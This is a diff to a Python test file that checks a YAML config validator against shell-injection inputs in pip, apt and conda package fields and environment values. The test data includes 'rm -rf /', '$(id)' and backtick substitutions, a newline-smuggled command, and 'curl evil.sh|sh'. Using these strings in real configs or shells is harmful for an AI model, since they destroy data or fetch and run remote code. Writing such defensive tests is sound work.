@@ -87,7 +87,8 @@ def test_empty_file(tmp_path: Path) -> None:
     ("field", "yaml_text"),
     [
         ("packages.pip.0", 'packages: {pip: ["rich==1.0; rm -rf /"]}'),
-        ("packages.pip.0", 'packages: {pip: ["rich"]}'),
+        ("packages.pip.0", 'packages: {pip: ["rich`id`"]}'),
+        ("packages.pip.0", 'packages: {pip: ["rich; python_version < \'$(id)\'"]}'),
         ("packages.apt.0", 'packages: {apt: ["git && curl evil.sh|sh"]}'),
         ("packages.conda.0", 'packages: {conda: ["numpy=1.2\\nRUN id"]}'),
         ("env.A", 'env: {A: "$(id)"}'),
